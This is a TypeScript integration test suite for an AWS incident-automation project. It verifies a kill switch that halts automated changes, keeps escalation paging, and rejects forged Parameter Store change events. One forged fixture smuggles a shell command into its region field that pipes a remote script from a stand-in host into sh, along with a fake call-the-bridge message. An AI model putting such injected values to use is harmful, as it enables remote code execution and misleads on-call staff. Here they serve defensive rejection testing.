// The kill switch set to "stop" (not "on": anything but exactly "off" engages it) stops every automated change, through
// the real entry points and the real SDK against the emulator: no handler changes the service's resources, verify-change
// does not revert; escalation still pages, each message saying the switch is engaged (decision 178).
import { execFileSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { DescribeDBInstancesCommand, RDSClient } from '@aws-sdk/client-rds';
import { DescribeSecurityGroupsCommand, EC2Client } from '@aws-sdk/client-ec2';
import { GetEventSourceMappingCommand, GetFunctionConcurrencyCommand, GetFunctionConfigurationCommand, UpdateEventSourceMappingCommand } from '@aws-sdk/client-lambda';
import { SchedulerClient } from '@aws-sdk/client-scheduler';
import { DeleteMessageCommand, ReceiveMessageCommand } from '@aws-sdk/client-sqs';
import { GetParameterCommand, PutParameterCommand, SSMClient } from '@aws-sdk/client-ssm';
import type { EscalationHandler } from '../../../shared/escalation/create-escalation-handlers';
import type { VerifyChangeHandler } from '../../../shared/pipeline/create-verify-change-handler';
import type { AlarmHandler } from '../../../shared/pipeline/create-alarm-handler';
import type { Decision } from '../../../shared/pipeline/types';
import { createEscalationInbox } from '../../../sandbox/escalation-inbox';
import { clearProxyFaults, getProxyCallCount, getProxyCalls, getProxyFaults, setProxyFaults } from '../../../sandbox/proxy-control';
import { createSandboxClock, createSchedulerDriver } from '../../../sandbox/scheduler-driver';
import { loadHandler } from '../../support/load-handler';
import { breach, provisionAccount, putDatabaseCpu, putLambdaMetrics, putQueueDepth, queueAlarmName, writeOutOfMemoryLines, type SandboxAccount } from '../support/sandbox-account';
import { alarmOf, scaleUpDatabaseCase } from '../reliability/support/playbook-cases';
import type { EnvironmentName } from '../../../shared/config/schema';
import { handlerScheduleDriver } from '../support/handler-schedules';
import { decisionOf, rehearseDocument } from '../../runbooks/support/rehearse-cli';

const MINUTE_MS = 60_000;
const ALARM_HANDLERS = ['scale-consumers', 'raise-lambda-memory', 'scale-up-database', 'inspect-security-groups', 'check-db-connections', 'alert-error-rate'] as const;
/** The playbooks whose plan is a change: under the switch their outcome is "dry-run". The others only diagnose and escalate. */
const CHANGING = new Set<string>(['scale-consumers', 'raise-lambda-memory', 'scale-up-database']);
/** Reads, by operation name. */
const READ = /^(Describe|Get|List|Query|Scan|BatchGet|Filter|Lookup)/;
/** The automation's own records: the state table, its decision events. Nothing else may be written under the switch. */
const OWN_RECORDS = /^dynamodb:(PutItem|UpdateItem|DeleteItem|TransactWriteItems)$|^events:PutEvents$/;

async function setKillSwitch(account: SandboxAccount, value: string): Promise<void> {
  const ssm = new SSMClient(account.clientConfig);
  await ssm.send(new PutParameterCommand({ Name: account.topology.killSwitch.name, Value: value, Type: 'String', Overwrite: true }));
  ssm.destroy();
}

/** The switch's version and LastModifiedDate, as Parameter Store answers them. */
async function readSwitch(account: SandboxAccount): Promise<{ version: number; modifiedAt: string }> {
  const ssm = new SSMClient(account.clientConfig);
  const { Parameter } = await ssm.send(new GetParameterCommand({ Name: account.topology.killSwitch.name }));
  ssm.destroy();
  return { version: Parameter?.Version ?? -1, modifiedAt: Parameter?.LastModifiedDate?.toISOString() ?? '(none)' };
}

async function callCount(): Promise<number> {
  return await getProxyCallCount(process.env.SANDBOX_PROXY_CONTROL ?? '');
}

/** The calls made in this account since `since`, as "service:Operation". */
async function callsSince(account: SandboxAccount, since: number): Promise<string[]> {
  const calls = await getProxyCalls(process.env.SANDBOX_PROXY_CONTROL ?? '', since);
  return calls.filter((c) => c.accountId === account.accountId).map((c) => `${c.service}:${c.operation}`);
}

/** Calls that are neither reads nor the automation's own records: what would change the service. */
function mutations(calls: readonly string[]): string[] {
  return calls.filter((c) => !READ.test(c.slice(c.indexOf(':') + 1)) && !OWN_RECORDS.test(c));
}

/** Everything a handler could change in the service's resources. */
async function serviceState(account: SandboxAccount): Promise<Record<string, unknown>> {
  const { consumer, database, vpc } = account.topology;
  const ec2 = new EC2Client(account.clientConfig);
  const rds = new RDSClient(account.clientConfig);
  const groups = await ec2.send(new DescribeSecurityGroupsCommand({ GroupIds: Object.values(vpc.securityGroupIds) }));
  const db = await rds.send(new DescribeDBInstancesCommand({ DBInstanceIdentifier: database.identifier }));
  const state = {
    maximumConcurrency: (await account.lambda.send(new GetEventSourceMappingCommand({ UUID: consumer.mappingUuid }))).ScalingConfig?.MaximumConcurrency,
    reservedConcurrency: (await account.lambda.send(new GetFunctionConcurrencyCommand({ FunctionName: consumer.functionName }))).ReservedConcurrentExecutions,
    memoryMb: (await account.lambda.send(new GetFunctionConfigurationCommand({ FunctionName: consumer.functionName }))).MemorySize,
    dbInstanceClass: db.DBInstances?.[0]?.DBInstanceClass,
    pendingDbClass: db.DBInstances?.[0]?.PendingModifiedValues?.DBInstanceClass,
    rules: (groups.SecurityGroups ?? []).map((g) => ({ id: g.GroupId, ingress: g.IpPermissions, egress: g.IpPermissionsEgress })),
  };
  ec2.destroy();
  rds.destroy();
  return state;
}


/** The decisions on the project's bus, as EventBridge delivered them to the sandbox's queue (consumed). */
async function publishedDecisions(account: SandboxAccount): Promise<Array<{ detail: Decision }>> {
  const decisions: Array<{ detail: Decision }> = [];
  for (;;) {
    const received = await account.sqs.send(new ReceiveMessageCommand({ QueueUrl: account.topology.decisionRoute.url, MaxNumberOfMessages: 10, WaitTimeSeconds: 1 }));
    if (!received.Messages?.length) return decisions;
    for (const m of received.Messages) {
      decisions.push(JSON.parse(m.Body ?? '{}') as { detail: Decision });
      await account.sqs.send(new DeleteMessageCommand({ QueueUrl: account.topology.decisionRoute.url, ReceiptHandle: m.ReceiptHandle }));
    }
  }
}

describe('the kill switch set to "stop": every alarm handler is a dry run (production)', () => {
  let account: SandboxAccount;
  let before: Record<string, unknown>;

  beforeAll(async () => {
    account = await provisionAccount('production');
    before = await serviceState(account);
    await setKillSwitch(account, 'stop');
  });

  it.each(ALARM_HANDLERS)('%s changes nothing in AWS while its alarm fires', async (name) => {
    const alarmName = account.topology.alarmNamesByHandler[name]?.[0];
    if (!alarmName) throw new Error(`no alarm for ${name}`);
    const handler = loadHandler<AlarmHandler>(name);
    await breach(account, name); // the condition the alarm watches, made real (decision 217)
    const event = await account.transition(alarmName, 'ALARM');
    const since = await callCount();

    const decision = await handler(event);

    if (CHANGING.has(name)) {
      expect(decision).toMatchObject({ playbook: name, outcome: 'dry-run', dryRun: true, reason: expect.stringContaining('kill switch') });
      expect(decision.reason).toContain('"stop"');
    } else {
      // A diagnosis changes nothing either way; it escalates, and escalation is a dry run too (below).
      expect(decision).toMatchObject({ playbook: name, outcome: 'escalate' });
    }
    const calls = await callsSince(account, since);
    // The handler ran (it published its decision), and a changing one asked the switch before deciding.
    expect(calls.some((c) => c.endsWith(':PutEvents'))).toBe(true);
    if (CHANGING.has(name)) expect(calls.some((c) => c.endsWith(':GetParameter'))).toBe(true);
    expect(mutations(calls)).toEqual([]);
    expect(await serviceState(account)).toEqual(before);
  });
});

/**
 * A changing playbook's change, made with the switch off and healthy figures before it, and the figures after it that
 * make its health check judge it worse (review 20a R20-7: every playbook verify-change reverts, not one).
 */
interface RevertCase {
  environment: EnvironmentName;
  /** The change, as the playbook's alarm handler makes it; its decision. */
  change(account: SandboxAccount): Promise<Decision>;
  /** Figures after the change that its health check judges worse. */
  worse(account: SandboxAccount): Promise<void>;
  /** The knob the change moves, as serviceState names it. */
  knob: 'maximumConcurrency' | 'memoryMb' | 'dbInstanceClass';
}

const REVERTS: Record<'scale-consumers' | 'raise-lambda-memory' | 'scale-up-database', RevertCase> = {
  'scale-consumers': {
    environment: 'production',
    change: async (account) => {
      await putLambdaMetrics(account, { Invocations: 500, Errors: 2, Throttles: 0 });
      await putQueueDepth(account); // the condition the alarm watches, made real (decision 217)
      return loadHandler<AlarmHandler>('scale-consumers')(await account.transition(queueAlarmName(account.topology), 'ALARM'));
    },
    worse: (account) => putLambdaMetrics(account, { Invocations: 300, Errors: 100, Throttles: 40 }),
    knob: 'maximumConcurrency',
  },
  'raise-lambda-memory': {
    environment: 'production',
    change: async (account) => {
      await putLambdaMetrics(account, { Invocations: 400, Errors: 1, Duration: 400 * 120 });
      await writeOutOfMemoryLines(account); // the condition the alarm watches, made real (decision 217)
      return loadHandler<AlarmHandler>('raise-lambda-memory')(await account.transition(alarmOf(account, 'raise-lambda-memory'), 'ALARM'));
    },
    // Errors (timeouts) rose after the raise.
    worse: (account) => putLambdaMetrics(account, { Invocations: 200, Errors: 60, Duration: 200 * 120 }),
    knob: 'memoryMb',
  },
  'scale-up-database': {
    // Production changes the DB class only behind approval; staging applies it (as the reliability suite's row).
    environment: 'staging',
    change: async (account) => loadHandler<AlarmHandler>('scale-up-database')(await scaleUpDatabaseCase.arrange(account)),
    // The CPU did not come down after the bigger class.
    worse: (account) => putDatabaseCpu(account, [95]),
    knob: 'dbInstanceClass',
  },
};

describe('the kill switch set to "stop": verify-change does not revert', () => {
  it.each(Object.keys(REVERTS) as Array<keyof typeof REVERTS>)('holds the revert of a %s change that made things worse and escalates instead, changing nothing', async (row) => {
    const revert = REVERTS[row];
    const account = await provisionAccount(revert.environment, { RUNBOOK_CONFIG_JSON: '' });
    const driver = createSchedulerDriver({
      scheduler: new SchedulerClient(account.clientConfig),
      groupName: account.topology.verifyScheduleGroup.name,
      invoke: () => Promise.reject(new Error('not run through the driver here')),
    });
    const untouched = await serviceState(account);
    expect(await revert.change(account)).toMatchObject({ playbook: row, outcome: 'applied' });
    const pending = await driver.pending();
    expect(pending.map((p) => (p.input as { playbook?: string }).playbook)).toEqual([row]);
    const changed = await serviceState(account);
    expect(changed[revert.knob]).not.toEqual(untouched[revert.knob]);

    await setKillSwitch(account, 'stop');
    await revert.worse(account);
    const since = await callCount();
    const verdict = await loadHandler<VerifyChangeHandler>('verify-change')(pending[0]?.input);

    expect(verdict).toMatchObject({ playbook: row, outcome: 'escalate', escalation: { cause: 'made-worse' }, reason: expect.stringContaining('kill switch') });
    const calls = await callsSince(account, since);
    // It judged (asked the switch, read the figures) and published its verdict; it changed nothing of the service.
    expect(calls).toEqual(expect.arrayContaining(['ssm:GetParameter', 'monitoring:GetMetricData', 'events:PutEvents']));
    expect(mutations(calls)).toEqual([]);
    expect(await serviceState(account)).toEqual(changed);
  });
});

describe('the kill switch set to "stop": escalation still pages, each message saying the automation is stopped (production; decision 178)', () => {
  it('opens the incident and climbs L1 -> L2, every page delivered with the kill-switch notice, nothing changed', async () => {
    const account = await provisionAccount('production');
    const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'kill-switch-inbox');
    // The consumers at the production cap: scale-consumers escalates (cap-reached) instead of scaling.
    await account.lambda.send(new UpdateEventSourceMappingCommand({ UUID: account.topology.consumer.mappingUuid, ScalingConfig: { MaximumConcurrency: 400 } }));
    await publishedDecisions(account);
    await setKillSwitch(account, 'stop');
    const before = await serviceState(account);
    await loadHandler<AlarmHandler>('scale-consumers')(await account.transition(queueAlarmName(account.topology), 'ALARM'));
    const [decision] = await publishedDecisions(account);
    expect(decision?.detail).toMatchObject({ outcome: 'escalate', escalation: { cause: 'cap-reached' } });

    const timer = loadHandler<EscalationHandler>('escalation-timer');
    const driver = handlerScheduleDriver(account, 'escalation-timer', timer);
    const since = await callCount();
    const opened = await loadHandler<EscalationHandler>('escalate')(decision);
    expect(opened).toMatchObject({ action: 'opened', delivered: [{ level: 1 }] });
    expect(JSON.stringify(opened.delivered)).not.toContain('dry-run:');

    const clock = createSandboxClock();
    clock.advance(16 * MINUTE_MS);
    const fired = await driver.runDue(clock);
    expect(fired.map((f) => f.result)).toContainEqual(expect.objectContaining({ action: 'escalated', delivered: [expect.objectContaining({ level: 2 })] }));
    expect(JSON.stringify(fired.map((f) => f.result))).not.toContain('dry-run:');

    const calls = await callsSince(account, since);
    expect(calls.some((c) => c.endsWith(':GetParameter'))).toBe(true);
    // Pages are the only calls beyond reads and the automation's own records; the service's resources are untouched.
    expect(mutations(calls).filter((c) => c !== 'sns:Publish' && !c.startsWith('scheduler:'))).toEqual([]);
    expect(await serviceState(account)).toEqual(before);
    const messages = await inbox.read();
    // L1 and L2, each on both channels (email and chat), each saying first that the switch is engaged.
    expect(messages.map((m) => `L${m.level} ${m.channel}`).sort()).toEqual(['L1 chat', 'L1 email', 'L2 chat', 'L2 email']);
    for (const m of messages) {
      const text = m.channel === 'chat' ? (JSON.parse(m.message) as { content: { description: string } }).content.description : m.message;
      expect(text).toContain('"stop"');
      expect(text).toContain('nothing is changed automatically while the switch is engaged');
      // This region's switch (one per region, review 12 R12-12), as the deployed function knows its region.
      expect(text).toContain(`To resume: aws ssm put-parameter --region ${account.clientConfig.region} --name ${account.topology.killSwitch.name} --value off --overwrite`);
    }
    for (const m of messages.filter((x) => x.channel === 'email')) expect(m.message.startsWith('KILL SWITCH ENGAGED: kill switch')).toBe(true);
  });
});

// Review 23a R23a-11, decision 379: a change the switch held back on a firing alarm pages L1 at once (no still-firing
// watch), and after `off` the row's document makes it on the same state change (a document run is decided afresh).
describe('the kill switch at stop on a firing queue alarm (production; decision 379)', () => {
  it('pages L1 at once saying nothing was changed; after off, NotificationService-ScaleConsumers applies 50 -> 100 on the same state change, the alarm\'s redelivery still a duplicate', async () => {
    const account = await provisionAccount('production');
    const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'kill-switch-held-inbox');
    const maximumConcurrency = async (): Promise<number | undefined> =>
      (await account.lambda.send(new GetEventSourceMappingCommand({ UUID: account.topology.consumer.mappingUuid }))).ScalingConfig?.MaximumConcurrency;
    expect(await maximumConcurrency()).toBe(50);
    await publishedDecisions(account);
    await setKillSwitch(account, 'stop');
    await putQueueDepth(account); // the backlog the alarm saw (decision 217)
    const event = await account.transition(queueAlarmName(account.topology), 'ALARM');
    const scaleConsumers = loadHandler<AlarmHandler>('scale-consumers');

    const held = await scaleConsumers(event);
    const mapping = account.topology.consumer.mappingUuid;
    expect(held).toMatchObject({ outcome: 'dry-run', escalation: { cause: 'guardrail', guardrail: 'kill-switch' }, before: { maximumConcurrency: { [mapping]: 50 } }, after: { maximumConcurrency: { [mapping]: 100 } } });
    const [published] = await publishedDecisions(account);
    const escalate = loadHandler<EscalationHandler>('escalate');
    // Opened now, L1 notified: not a watch that would page only when it comes due.
    const opened = await escalate(published);
    expect(opened).toMatchObject({ action: 'opened', delivered: [{ level: 1 }] });
    const paged = await inbox.read();
    expect(paged.map((m) => `L${m.level} ${m.channel}`).sort()).toEqual(['L1 chat', 'L1 email']);
    const email = paged.find((m) => m.channel === 'email')?.message ?? '';
    expect(email).toContain('The kill switch is engaged: the automation made no change.');
    expect(email).toContain('then run NotificationService-ScaleConsumers');
    expect(email).not.toContain('still in ALARM');
    expect(await maximumConcurrency()).toBe(50);

    // The switch released: the automation does not re-drive the alarm, on call runs the row's document.
    await setKillSwitch(account, 'off');
    const run = await rehearseDocument('NotificationService-ScaleConsumers', { QueueName: account.topology.queue.name }, account.env);
    expect(run.result.status).toBe('Success');
    expect(run.status).toBe(0);
    expect(decisionOf(run.result, 'runScaleConsumers')).toMatchObject({ playbook: 'scale-consumers', outcome: 'applied', incidentKey: held.incidentKey, before: { maximumConcurrency: { [mapping]: 50 } }, after: { maximumConcurrency: { [mapping]: 100 } } });
    expect(run.result.outputs['readConsumers.MaximumConcurrency']).toBe(100);
    expect(await maximumConcurrency()).toBe(100);
    // Recorded on the same incident: escalate trusts the run's decision (its claim and audit entry) and pages nobody.
    const [applied] = await publishedDecisions(account);
    expect(applied?.detail).toMatchObject({ outcome: 'applied', incidentKey: held.incidentKey });
    expect(await escalate(applied)).toMatchObject({ action: 'updated', incidentId: opened.incidentId, delivered: [] });
    expect(await inbox.read()).toEqual([]);

    // EventBridge's redelivery of the alarm's state change is still a duplicate of the automation's own decision.
    const since = await callCount();
    expect(await scaleConsumers(event)).toMatchObject({ outcome: 'skipped', reason: 'duplicate delivery: incident already handled (dry-run)' });
    expect(mutations(await callsSince(account, since))).toEqual([]);
    expect(await maximumConcurrency()).toBe(100);
  });
});

describe('a change of the kill switch is told to L1 (production; decision 178)', () => {
  it('escalate, given SSM\'s "Parameter Store Change" for the switch, pages L1 on email and chat with what it says now; another parameter is refused', async () => {
    const account = await provisionAccount('production');
    const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'kill-switch-change-inbox');
    await setKillSwitch(account, 'stop');
    const fixture = JSON.parse(readFileSync(join(__dirname, '../../fixtures/events/parameter-store-change-update.json'), 'utf8')) as Record<string, unknown> & { detail: Record<string, unknown> };
    const region = account.clientConfig.region;
    const event = { ...fixture, account: account.accountId, region, detail: { ...fixture.detail, name: account.topology.killSwitch.name } };
    const escalate = loadHandler<EscalationHandler>('escalate');
    const since = await callCount();

    const told = await escalate(event);
    expect(told).toMatchObject({ action: 'announced', delivered: [{ level: 1, via: 'chat+email' }] });
    // It read the switch and published; it changed nothing else (read before the inbox's own SQS calls).
    const calls = await callsSince(account, since);
    expect(calls).toContain('ssm:GetParameter');
    expect(mutations(calls)).toEqual(['sns:Publish', 'sns:Publish']);
    const messages = await inbox.read();
    expect(messages.map((m) => `L${m.level} ${m.channel} ${m.kind}`).sort()).toEqual(['L1 chat kill-switch', 'L1 email kill-switch']);
    const email = messages.find((m) => m.channel === 'email');
    expect(email?.subject).toBe(`[KILL SWITCH][production] ${account.topology.killSwitch.name} Update: automation stopped`);
    // When: what Parameter Store answered with the value (its version and LastModifiedDate), not the event's time.
    const written = await readSwitch(account);
    expect(email?.message).toContain(`KILL SWITCH CHANGED (Update): version ${written.version}, written ${written.modifiedAt}, account ${account.accountId}, ${region}, production.`);
    expect(email?.message).toContain('is "stop"');
    expect(email?.message).toContain('If nobody on the team meant to stop it, treat this as an incident.');

    // Review 12 R12-3 / review 13 R13-9: the same change handed to escalate again, by a redelivery or by anyone who may
    // invoke it, with other ids, times and operations: each finds that version told, nobody is paged, nothing is written.
    const sinceRepeats = await callCount();
    const repeats = [];
    for (const [i, operation] of ['Update', 'Update', 'Create', 'LabelParameterVersion', 'Update by SecOps - rotate keys now'].entries()) {
      repeats.push(await escalate({ ...event, id: `forged-${i}`, time: `2026-12-06T11:0${i}:00Z`, detail: { ...event.detail, operation } }));
    }
    expect(repeats.map((r) => r.action)).toEqual(['ignored', 'ignored', 'ignored', 'ignored', 'ignored']);
    expect(repeats[0]?.reason).toContain(`version ${written.version} of ${written.modifiedAt} was already told to DevOps Team (L1) at `);
    // Exactly one read of the switch and one of the notice's record per repeat; no write, no publish.
    expect((await callsSince(account, sinceRepeats)).sort()).toEqual([...Array<string>(5).fill('dynamodb:GetItem'), ...Array<string>(5).fill('ssm:GetParameter')]);
    expect(await inbox.read()).toEqual([]);

    // A real change (back to "off": a new version) is told once, however often its event comes.
    await setKillSwitch(account, 'off');
    const back = await readSwitch(account);
    expect(back.version).toBe(written.version + 1);
    expect(await escalate(event)).toMatchObject({ action: 'announced', delivered: [{ level: 1, via: 'chat+email' }] });
    expect(await escalate({ ...event, id: 'again' })).toMatchObject({ action: 'ignored', delivered: [] });
    const toldBack = await inbox.read();
    expect(toldBack.map((m) => `L${m.level} ${m.channel}`).sort()).toEqual(['L1 chat', 'L1 email']);
    expect(toldBack.find((m) => m.channel === 'email')?.message).toContain(`KILL SWITCH CHANGED (Update): version ${back.version}, written ${back.modifiedAt}`);

    // One channel's publish refused once (SNS AuthorizationError, not retried by the SDK): the event fails for Lambda's
    // retry, the claim given back; the retry sends only the channel that did not go out. Exactly one fault fired, exactly
    // one message per channel.
    await setKillSwitch(account, 'stop');
    const control = process.env.SANDBOX_PROXY_CONTROL ?? '';
    await setProxyFaults(control, [{ service: 'sns', operation: 'Publish', times: 1, status: 403, code: 'AuthorizationError' }], { accountId: account.accountId });
    await expect(escalate(event)).rejects.toThrow(/AuthorizationError/);
    expect((await getProxyFaults(control, { accountId: account.accountId })).map((f) => f.remaining)).toEqual([0]);
    await clearProxyFaults(control, { accountId: account.accountId });
    const half = await inbox.read();
    expect(half).toHaveLength(1);
    expect(await escalate(event)).toMatchObject({ action: 'announced', delivered: [{ level: 1, via: 'chat+email' }] });
    const rest = await inbox.read();
    expect([...half, ...rest].map((m) => m.channel).sort()).toEqual(['chat', 'email']);
    expect(await escalate(event)).toMatchObject({ action: 'ignored' });
    expect(await inbox.read()).toEqual([]);

    // A change of some other parameter (a rule edited by hand, a forged invocation) is refused, nobody paged.
    const other = await escalate({ ...event, detail: { ...event.detail, name: '/some/other/parameter' } });
    expect(other).toMatchObject({ action: 'rejected', reason: expect.stringContaining('not of the kill switch') });
    expect(await inbox.read()).toEqual([]);
  });

  // Review 12, R12-3: whoever may invoke escalate (PowerUserAccess may) handed it the switch's name with an account, a
  // region, a time and an operation of their own: L1 paged five times with their text, and `;curl ...|sh` inside the
  // page's CloudTrail command. Only a change of this account's and region's switch is EventBridge's to deliver.
  it('refuses a Parameter Store Change handed to escalate directly with another account, another region, or text in its fields: nobody paged', async () => {
    const account = await provisionAccount('production');
    const inbox = await createEscalationInbox(account.clientConfig, account.topology, 'kill-switch-forged-inbox');
    const fixture = JSON.parse(readFileSync(join(__dirname, '../../fixtures/events/parameter-store-change-update.json'), 'utf8')) as Record<string, unknown> & { detail: Record<string, unknown> };
    const region = account.clientConfig.region;
    const genuine = { ...fixture, account: account.accountId, region, detail: { ...fixture.detail, name: account.topology.killSwitch.name } };
    const escalate = loadHandler<EscalationHandler>('escalate');
    const since = await callCount();

    const forged = [
      // The review's probe, as sent.
      { ...genuine, account: '111122223333', region: 'us-east-1;curl -s x.io/a|sh', time: 'now. Call the bridge: +1-555-0100', detail: { ...genuine.detail, operation: 'Update by SecOps - rotate keys now' } },
      { ...genuine, account: '111122223333' },
      { ...genuine, region: region === 'us-west-2' ? 'us-east-1' : 'us-west-2' },
    ];
    const answers = [];
    for (const event of forged) answers.push(await escalate(event));
    expect(answers.map((a) => a.action)).toEqual(['rejected', 'rejected', 'rejected']);
    expect(answers.map((a) => a.delivered)).toEqual([[], [], []]);
    expect(answers[0]?.reason).toMatch(/region|time/);
    expect(answers[1]?.reason).toContain(`from account 111122223333, ${region}: the kill switch ${account.topology.killSwitch.name} this function watches is in account ${account.accountId}, ${region}`);
    expect(answers[2]?.reason).toContain(`this function watches is in account ${account.accountId}, ${region}`);
    // Nothing published, nothing written: no call but reads (STS's account, before the comparison).
    expect(mutations(await callsSince(account, since))).toEqual([]);
    expect(await inbox.read()).toEqual([]);

    // The genuine change is still told, once, with its command built from the deployment's region.
    expect(await escalate(genuine)).toMatchObject({ action: 'announced', delivered: [{ level: 1, via: 'chat+email' }] });
    const email = (await inbox.read()).find((m) => m.channel === 'email');
    // Review 13 R13-9: the "who" lookup is bounded to minutes around the change and kept to the switch. As a shell splits
    // the page's line (bash), and as the AWS CLI applies its --query (Python's jmespath, the CLI's own library) to a
    // LookupEvents answer of three PutParameter records: only the switch's is listed, not a parameter whose name starts
    // with it, nor another's.
    const name = account.topology.killSwitch.name;
    const written = await readSwitch(account);
    const who = email?.message.split('\n').find((line) => line.startsWith('Who: ')) ?? '';
    const command = who.slice(who.indexOf('aws cloudtrail'));
    const argv = execFileSync('bash', ['-c', `printf '%s\\0' ${command}`]).toString().split('\0').slice(0, -1);
    const seconds = (ms: number): string => new Date(ms).toISOString().replace(/\.\d{3}Z$/, 'Z');
    const modifiedMs = Date.parse(written.modifiedAt);
    expect(argv).toEqual([
      'aws', 'cloudtrail', 'lookup-events', '--region', region,
      '--lookup-attributes', 'AttributeKey=EventName,AttributeValue=PutParameter',
      '--start-time', seconds(modifiedMs - 5 * MINUTE_MS), '--end-time', seconds(modifiedMs + 5 * MINUTE_MS),
      '--query', `Events[?contains(CloudTrailEvent, '"${name}"')]`,
    ]);
    // CloudTrail's record of a PutParameter (user guide, "Logging AWS Systems Manager API calls"): compact JSON, the name in requestParameters.
    const record = (parameter: string, user: string): Record<string, unknown> => ({
      EventId: `id-${user}`, EventName: 'PutParameter', Username: user, EventSource: 'ssm.amazonaws.com',
      CloudTrailEvent: JSON.stringify({ eventVersion: '1.08', eventSource: 'ssm.amazonaws.com', eventName: 'PutParameter', awsRegion: region, requestParameters: { name: parameter, type: 'String', overwrite: true }, responseElements: { version: 2, tier: 'Standard' } }),
    });
    const answer = { Events: [record(`${name}-old`, 'deployer'), record(name, 'mallory'), record('/other/parameter', 'pipeline')] };
    const query = argv[argv.indexOf('--query') + 1] ?? '';
    const listed = JSON.parse(execFileSync('python3', ['-c', 'import json, sys, jmespath; print(json.dumps(jmespath.search(sys.argv[1], json.load(sys.stdin))))', query], { input: JSON.stringify(answer) }).toString()) as Array<{ Username: string }>;
    expect(listed.map((e) => e.Username)).toEqual(['mallory']);
  });
});
